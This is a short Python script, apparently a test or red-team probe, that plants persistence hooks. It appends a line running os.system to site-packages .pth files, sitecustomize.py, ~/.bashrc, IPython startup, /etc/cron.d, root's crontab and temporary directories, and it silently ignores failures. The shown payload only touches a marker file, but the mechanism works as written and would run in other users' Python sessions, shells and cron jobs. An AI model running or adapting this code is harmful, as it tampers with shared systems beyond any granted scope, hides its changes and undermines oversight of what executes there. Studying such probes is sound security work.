# Leave something that runs when somebody else starts Python, a shell, or a job.
import os
import site
import sys

for path in (
    *[os.path.join(folder, "threes_and_sevens_attack.pth") for folder in (*site.getsitepackages(), site.getusersitepackages())],
    os.path.join(sys.prefix, "sitecustomize.py"),
    os.path.expanduser("~/.bashrc"),
    os.path.expanduser("~/.ipython/profile_default/startup/attack.py"),
    "/etc/cron.d/attack",
    "/var/spool/cron/root",
    "/tmp/threes-and-sevens-attack",
    "/dev/shm/threes-and-sevens-attack",
):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "a").write("import os; os.system('touch /tmp/threes-and-sevens-attack-later')\n")
    except OSError:
        pass
